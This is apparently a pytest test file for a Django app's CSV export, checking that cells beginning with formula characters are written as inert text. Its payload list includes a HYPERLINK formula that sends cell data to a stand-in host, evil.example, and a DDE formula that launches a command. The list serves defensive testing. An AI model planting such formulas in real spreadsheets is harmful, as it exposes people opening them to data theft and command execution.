"""rolefit/spreadsheets.py: no cell of a CSV the app writes can run as a formula."""

import csv
import io

import pytest

from plans.models import HiringPlan
from rolefit.spreadsheets import neutralised
from tests.conftest import COMPLEX_ANSWERS
from tests.flow import owner_path, submitted
from tests.plans_flow import plan_form

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert neutralised(payload) == "'" + payload


@pytest.mark.parametrize("harmless", ["Ana Pérez", "", "1-2 weeks", "CRO = strategy", 42])
def test_everything_else_is_unchanged(harmless):
    assert neutralised(harmless) == harmless


@pytest.mark.django_db
def test_the_plans_task_csv_neutralises_assignees_and_notes(client, live_version):
    token = submitted(client, COMPLEX_ANSWERS)
    location = client.post(f"{owner_path(token)}plan/")["Location"]
    plan = HiringPlan.objects.get()
    data = plan_form(
        plan,
        lambda n, task: (
            {"assignee": PAYLOADS[n % 5], "notes": PAYLOADS[(n + 1) % 5]} if n < 5 else {}
        ),
    )
    assert client.post(location, data).status_code == 302
    rows = list(csv.reader(io.StringIO(client.get(f"{location}tasks.csv").content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0" in cells


def test_the_exported_template_goes_through_the_same_writer(capsys):
    from django.core.management import call_command

    call_command("export_search_plan", "--role", "CRO", "--format", "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["phase", "task", "due_after_days"]
    assert len(rows) > 30


def test_every_field_is_quoted_so_a_semicolon_cannot_start_a_cell():
    from rolefit.spreadsheets import writer

    buffer = io.StringIO()
    writer(buffer).writerow(["x;=1+1", "Ana", 3])
    assert buffer.getvalue().strip() == '"x;=1+1","Ana","3"'
